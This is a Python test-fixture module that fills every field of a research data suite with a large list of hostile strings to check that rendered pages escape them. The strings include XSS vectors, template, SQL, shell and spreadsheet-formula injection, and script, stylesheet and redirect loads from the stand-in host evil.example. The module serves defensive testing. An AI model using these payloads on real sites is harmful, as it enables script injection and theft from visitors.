"""Texts that mean harm, and a suite that holds them in every field a person or a machine may fill.

The suite is the shipped one with all its codes and none of its words. Each text is followed by
the name of its field and a number, so that a page tells which text of which field it shows.
The surprising rule: `harmless` makes a twin of a text with the same words and the same length,
so that a page of the one differs from a page of the other by nothing but its characters.
"""

from __future__ import annotations

import csv
import hashlib
import itertools
import re
import tomllib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from policybook.exchange import toml
from policybook.exhibits.html import plain

ROOT = Path(__file__).parent.parent

STRINGS = {
    # what opens a script, or ends the element it stands in
    "script": "<script>alert(1)</script>",
    "end-of-script": "</script><script>alert(1)</script>",
    "end-of-script-odd": "</ScRiPt\t><sCript/x>canary='changed'</sCRIPT >",
    "script-in-comment": "<!--<script>--><script>alert(1)</script>",
    "script-source": '<script src="https://evil.example/x.js"></script>',
    "script-module": '<script type="module">import "https://evil.example/x.js"</script>',
    "script-import-map": '<script type="importmap">{"imports":{"a":"https://evil.example/"}}</script>',
    "spec-block": '<script type="application/vnd.vegalite.v6+json">{"mark":"bar"}</script>',
    "vega-block": '</script><script type="application/vnd.vega.v6+json">{"signals":[]}</script>',
    "script-unclosed": "<script>alert(1)//",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    # what ends the text, the attribute, the comment or the style it stands in
    "end-of-attribute": '"><img src=x onerror=alert(1)>',
    "end-of-attribute-single": "' onmouseover='alert(1)",
    "end-of-attribute-bare": '" autofocus onfocus="alert(1)" x="',
    "end-of-title": "</title></head><body onload=alert(1)>",
    "end-of-style": "</style><style>@import url(https://evil.example/x.css)</style>",
    "end-of-textarea": "</textarea></select></option><svg onload=alert(1)>",
    "end-of-table": "</td></tr></table><table onclick=alert(1)><tr><td>",
    "end-of-page": "</main></body></html><h1 onclick=alert(1)>",
    "comment": "<!-- ",
    "comment-end": "--><img src=x onerror=alert(1)><!--",
    "comment-end-odd": "<!-->--!><img src=x onerror=alert(1)>",
    "plaintext": "<plaintext>",
    "raw-text": "<xmp><noscript><textarea><title><iframe><noembed><noframes>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    # what runs by an event
    "image": "<img src=x onerror=alert(1)>",
    "image-slashes": "<img/src='x'/onerror=alert`1`>",
    "image-lines": "<img src=x\nonerror=\nalert(1)>",
    "image-unclosed": "<img src=x onerror=alert(1) ",
    "image-set": "<img srcset='https://evil.example/x 1x'><picture><source srcset=x>",
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video": "<video autoplay src=https://evil.example/x onerror=alert(1)></video>",
    "input": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "animation": "<x style='animation-name:x' onanimationstart=alert(1)>",
    "pointer": "<div style=position:fixed;inset:0 onpointermove=alert(1)>x</div>",
    # what embeds, moves or changes the page
    "frame": "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "base": "<base href=https://evil.example/><link rel=stylesheet href=x.css>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "policy": "<meta http-equiv='Content-Security-Policy' content='script-src *'>",
    "form": "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button>",
    "style": "<style>*{display:none!important}</style>",
    "style-attribute": "<p style='background:url(https://evil.example/x)'>x</p>",
    "clobber": "<form id=canary name=document><input name=canary id=querySelectorAll></form>",
    # vectors
    "svg": "<svg onload=alert(1)>",
    "svg-script": "<svg><script href=https://evil.example/x.js></script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg-foreign": "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "svg-style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "svg-text": "</text></svg><img src=x onerror=alert(1)>",
    "svg-names": ' id="a" url(#a) href="#a" xmlns="http://www.w3.org/2000/svg" rgb(1,2,3) 1.23456'.strip(),
    "math": "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "math-mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "math-annotation": "<math><annotation-xml encoding=text/html><script>alert(1)</script></math>",
    # what other readers of a text take for code
    "braces": "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}{# x #}",
    "dollar": "${alert(1)} #{alert(1)} <%= 7*7 %> $(touch x) `touch x`",
    "format": "{0.__class__} {} {x!r} %s %(x)s %n %%",
    "math-tex": "$\\href{javascript:alert(1)}{x}$ \\(x\\) \\[x\\] $$\\unicode{x}$$",
    "vega": "datum['x'] || alert(1)",
    "vega-end": "'] || alert(1) || datum['",
    "vega-signal": '{"signal":"alert(1)"} {"expr":"alert(1)"}',
    "vega-constructor": "event.vega.view()['_el'].ownerDocument.defaultView.alert(1)",
    "vega-escape": "x\\'+warn(1)+\\\"|y||z",
    "altair": "a.b[0]:Q sum(x):T mean(\\:N)",
    "spreadsheet": "=cmd|' /C calc'!A0",
    "spreadsheet-at": '@SUM(1+1)*cmd -2+3+cmd +1|x;,\t=HYPERLINK("https://evil.example/")',
    "shell": "; touch x & touch y | touch z > a '\"'\"' $IFS",
    "sql": "'; DROP TABLE recommendations; --",
    "names": "__proto__ constructor prototype toString hasOwnProperty null undefined NaN",
    "literals": "None\" + __import__('os').system('touch x') + \"\\N{DIGIT ONE}\\x00\\u0000\\",
    "separators": "a; b, c | d / e . f ; g",
    # what would become a link
    "markdown-link": "[x](javascript:alert(1)) [y][1] <https://evil.example/>",
    "markdown-image": "![x](https://evil.example/x.png)",
    "markdown-marks": "# x **b** _i_ `c` ~~s~~ > q - l 1. n ***",
    "markdown-table": "|a|b| :--- [^1]: x \\* ![a][b]",
    "script-address": "javascript:alert(1) JaVaScRiPt://%0aalert(1) vbscript:x data:text/html,x",
    "bare-address": "https://evil.example/<b>?a=1&lt=2&copy www.evil.example x@evil.example",
    "link": '<a href="java&#10;script:alert(1)" target=_blank ping=https://evil.example/>x</a>',
    "forged-note": '<a class="note" href="#note-1">1</a><li class="note" value="1">x</li>',
    "forged-kicker": '<p class="kicker">x</p><h1>x</h1><ul class="answer"><li>x</li></ul>',
    "forged-picture": '<i id="policybook-picture-0"></i>',
    # what stands for another character, or is none
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;img src=x&#62; &nbsp;&notin;",
    "entities-odd": "&#x3c;script&#x3e &ltimg src=x onerror=alert(1)&gt &#0; &#xD800;",
    "escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e %3Cscript%3E \\x3cimg\\x3e",
    "wide": "＜script＞alert(1)＜/script＞ ʼ ﹤img﹥",
    "override": "\u202etpircs<\u202d \u2066x\u2067y\u2068z\u2069 \u202a\u202b\u202c<b>",
    "marks-of-direction": "a\u200eb\u200fc\u061cd <b>שלום</b> مرحبا",
    "zero-width": "<scr\u200bipt>\ufeffalert\u2060(1)\u00ad</scr\u200dipt>",
    "decomposed": "Ame\u0301lie A\u030angstro\u0308m \u1100\u1161\u11a8 e\u0301<b>\u0338>",
    "piled-marks": "Z\u0351\u036b\u0343a\u0334\u0321l\u0317g\u0302o <b>",
    "controls": "\x01<b>\x08\x1b[31m\x7f\x85\x9b<i>",
    "line-ends": "a\u2028alert(1)\u2029b\x0b<b>\x0cc",
    "no-characters": "\ufffe<b>\uffff\ufdd0\U0001ffff",
    "private": "\ue000<b>\U000f0000\U0010fffd \U0001f468\u200d\U0001f469",
    "two-lines": "one\n<script>alert(1)</script>\ntwo",
}  # fmt: skip
"""Texts by their names. All may stand in a table, but for those that `check` refuses; see below."""

REFUSED = {"nul": "a\0<script>alert(1)</script>", "surrogate": "a\ud800<script>alert(1)</script>"}
"""Texts that no table may hold: NUL is no text, and a lone surrogate is no UTF-8."""

LONG = "<script>alert(1)</script> & " * 37_450
"""A text of one megabyte."""

_TWINS = str.maketrans(
    {**dict(zip("<>&\"'`{}$\\[]*_#|:@%=~", "‹›+”’´()§∖()·-№¦∶©‰≡-", strict=True)),
     **dict.fromkeys("\x0b\x0c\x1c\x1d\x1e\x85", "\u2028")}
)  # fmt: skip
"""A character for each that means something to a machine, of the same kind to a reader."""


def harmless(text: str) -> str:
    """Return a text of the same words and the same length that means nothing to any machine."""
    return plain(text.translate(_TWINS))


def as_shown(text: str) -> str:
    r"""Return a text as a browser holds it: unshowable characters replaced, line ends as \n."""
    return plain(text).replace("\r\n", "\n").replace("\r", "\n")


@dataclass
class Filler:
    """Puts texts into fields in turn, and knows which text stands in which field."""

    strings: Sequence[str]
    odd: tuple[str, str] = ("", "")
    """A field whose second row or entry holds one more text, and that text."""

    fields: dict[str, set[str]] = field(default_factory=dict)

    def fill(self, name: str, holders: Sequence[dict[str, Any]], key: str = "") -> None:
        """Write the texts into one field of several rows or entries.

        Each text stands in three of them, or in all: no page shows every row.
        """
        size = len(self.strings)
        each = min(size, -(-3 * size // max(1, len(holders))))
        for nth, holder in enumerate(holders):
            mine = [self.strings[(nth * each + more) % size] for more in range(each)]
            mine += [self.odd[1]] if name == self.odd[0] and nth == min(1, len(holders) - 1) else []
            words = [f"{text} {name}-{nth:03}" for text in mine]
            holder[key or name.rpartition(".")[2]] = " ".join(words)
            self.fields.setdefault(name, set()).update(mine)


def found(page: str, filler: Filler) -> set[tuple[str, str]]:
    """Return which text of which field a page shows to the letter, runs of blanks as one."""
    page = folded(page)
    return {
        (name, text)
        for name, texts in filler.fields.items()
        for text in texts
        if folded(f"{as_shown(text)} {name}-") in page
    }


def folded(text: str) -> str:
    """Return a text as a browser paints it: a run of blanks and line ends is one blank."""
    return re.sub(r"[ \t\n\r\f]+", " ", text)


def write(folder: Path, strings: Sequence[str], *, odd: tuple[str, str] = ("", "")) -> Filler:
    """Write a suite that holds these texts in every field, and `odd` in one; nothing is judged."""
    filler = Filler(strings, odd)
    (folder / "seeds").mkdir(parents=True)
    (folder / "codings").mkdir()
    _codebook(folder / "codebook.toml", filler)
    articles = _read(ROOT / "seeds" / "articles.csv")
    rows = _read(ROOT / "recommendations.csv")
    diagnoses = _read(ROOT / "codings" / "diagnoses.csv")
    _rows(filler, rows, diagnoses)
    texts = _texts(filler, articles, [*rows, *diagnoses])
    _articles(folder, filler, articles, texts)
    _write(folder / "recommendations.csv", rows)
    _write(folder / "codings" / "diagnoses.csv", diagnoses)
    _codings(folder / "codings", filler, rows)
    return filler


RENAMED = {"mei-2014": "constructor", "mahmoud-2018": "null", "daily-sabah-2019": "NaN"}
"""Ids that mean something to some machine, and that a suite may have."""

_KEPT = ("date", "from", "until", "kind", "articles", "theme", "members", "rank", "prescribes")
"""Entries of a codebook's values that are no texts."""


def _read(path: Path) -> list[dict[str, str]]:
    """Return the rows of a shipped table, articles by their new names."""
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    for row, key in itertools.product(rows, ("id", "article")):
        row[key] = RENAMED.get(row.get(key, ""), row.get(key, ""))
    if "title" in rows[0]:
        for row in rows:
            del row["article"]
    return rows


def _write(path: Path, rows: Sequence[Mapping[str, str]]) -> None:
    """Write a table; bytes that are no UTF-8 as they come."""
    with path.open("w", newline="", encoding="utf-8", errors="surrogatepass") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def _codebook(path: Path, filler: Filler) -> None:
    """Write the codebook of the shipped suite with none of its words."""
    data = tomllib.loads((ROOT / "codebook.toml").read_text("utf-8"))
    filler.fill("codebook.name", [data["codebook"]])
    filler.fill("changelog.change", data["changelog"])
    for key in data["unit"]:
        filler.fill(f"unit.{key}", [data["unit"]])
    columns = [entry for table in data["column"].values() for entry in table.values()]
    for key in ("label", "definition", "include", "exclude", "example", "default_means"):
        filler.fill(f"column.{key}", [entry for entry in columns if key in entry])
    for name in ("relation", "referent"):
        for key in ("note", "term"):
            filler.fill(f"{name}.{key}", [entry for entry in data[name] if key in entry])
    for name, values in data.items():
        if isinstance(values, dict) and name not in ("codebook", "unit", "column"):
            _vocabulary(filler, name, values)
    path.write_bytes(toml.document(_tables(data)).encode("utf-8", "surrogatepass"))


def _vocabulary(filler: Filler, name: str, values: dict[str, dict[str, Any]]) -> None:
    """Fill the words of all values of a vocabulary; a list of words holds one."""
    for key in dict.fromkeys(key for entry in values.values() for key in entry):
        holders = [entry for entry in values.values() if key in entry]
        if key == "articles":
            for entry in holders:
                entry[key] = [RENAMED.get(article, article) for article in entry[key]]
        if key in _KEPT:
            continue
        lists = isinstance(holders[0][key], list)
        filler.fill(f"{name}.{key}", holders)
        for entry in holders if lists else ():
            entry[key] = [entry[key]]


def _tables(data: Mapping[str, Any]) -> Iterator[tuple[tuple[str, ...], Mapping[str, Any], bool]]:
    """Yield the tables of a codebook as `toml.document` takes them."""
    for name, entry in data.items():
        if isinstance(entry, list):
            yield from (((name,), one, True) for one in entry)
        elif name in ("codebook", "unit"):
            yield (name,), entry, False
        elif name == "column":
            for table, columns in entry.items():
                yield from (((name, table, key), one, False) for key, one in columns.items())
        else:
            yield from (((name, key), one, False) for key, one in entry.items())


def _rows(filler: Filler, rows: list[dict[str, str]], diagnoses: list[dict[str, str]]) -> None:
    """Fill the texts of all rows: every one has a reason and a legal basis, and words before each."""
    for row in [*rows, *diagnoses]:
        row |= {key: "" for key in row if key.endswith("prefix")}
    for name, among in (("row", rows), ("diagnosis", diagnoses)):
        for key in ("quote", "prefix", "note"):
            filler.fill(f"{name}.{key}", among)
    for key in ("reason", "reason_prefix", "legal_basis", "legal_basis_prefix"):
        filler.fill(f"row.{key}", rows)
    conditional = [row for row in rows if row["condition"]]
    for key in ("condition", "condition_prefix"):
        filler.fill(f"row.{key}", conditional)


_PASSAGES = ("quote", "condition", "reason", "legal_basis")


def _texts(
    filler: Filler, articles: list[dict[str, str]], rows: list[dict[str, str]]
) -> dict[str, str]:
    """Return the text of each article: a paragraph a row, its passages between other words."""
    texts = {article["id"]: "" for article in articles}
    around = [{"before": "", "after": ""} for _ in rows]
    filler.fill("text.before", around)
    filler.fill("text.after", around)
    for row, words in zip(rows, around, strict=True):
        parts = [words["before"]]
        for key in _PASSAGES:
            prefix = row.get("prefix" if key == "quote" else f"{key}_prefix", "")
            parts += [part for part in (prefix, row.get(key, "")) if part]
        texts[row["article"]] += " ".join([*parts, words["after"]]) + "\n\n"
    return texts


def _articles(
    folder: Path, filler: Filler, articles: list[dict[str, str]], texts: Mapping[str, str]
) -> None:
    """Write the articles and what is said of them."""
    for key in ("title", "outlet", "date_note", "note", "language", "translated_from", "url"):
        filler.fill(f"article.{key}", articles)
    for nth, article in enumerate(articles):
        data = texts[article["id"]].encode("utf-8", "surrogatepass")
        article["file"] = f"x{nth} alert(1), 'onload' +-.html"
        article["sha256"] = hashlib.sha256(data).hexdigest()
        # An address is one; what it may not hold is taken out, so it is looked for nowhere.
        article["url"] = "https://evil.example/" + re.sub(r"[\s<>\"'`\\]", "", article["url"])
        article |= {"outlet_basis": "page", "translated_basis": "page", "url_basis": "page"}
        (folder / "seeds" / article["file"]).write_bytes(data)
    del filler.fields["article.url"]
    _write(folder / "seeds" / "articles.csv", articles)


def _codings(folder: Path, filler: Filler, rows: Sequence[Mapping[str, str]]) -> None:
    """Write what two readers coded, and a ruling on each row."""
    for reader in ("reader-a", "reader-b"):
        coded = [{k: v for k, v in row.items() if k != "confirmed_by"} for row in rows]
        filler.fill(f"{reader}.note", coded)
        _write(folder / f"{reader}.csv", coded)
    rulings = [
        {"id": f"r{nth:03}", "article": row["article"], "reader_a": row["id"], "reader_b": row["id"],
         "row": row["id"], "differed": "", "ruling": "both", "reason": "", "coder": "adjudicator"}
        for nth, row in enumerate(rows)
    ]  # fmt: skip
    for key in ("differed", "reason"):
        filler.fill(f"ruling.{key}", rulings)
    _write(folder / "adjudication.csv", rulings)
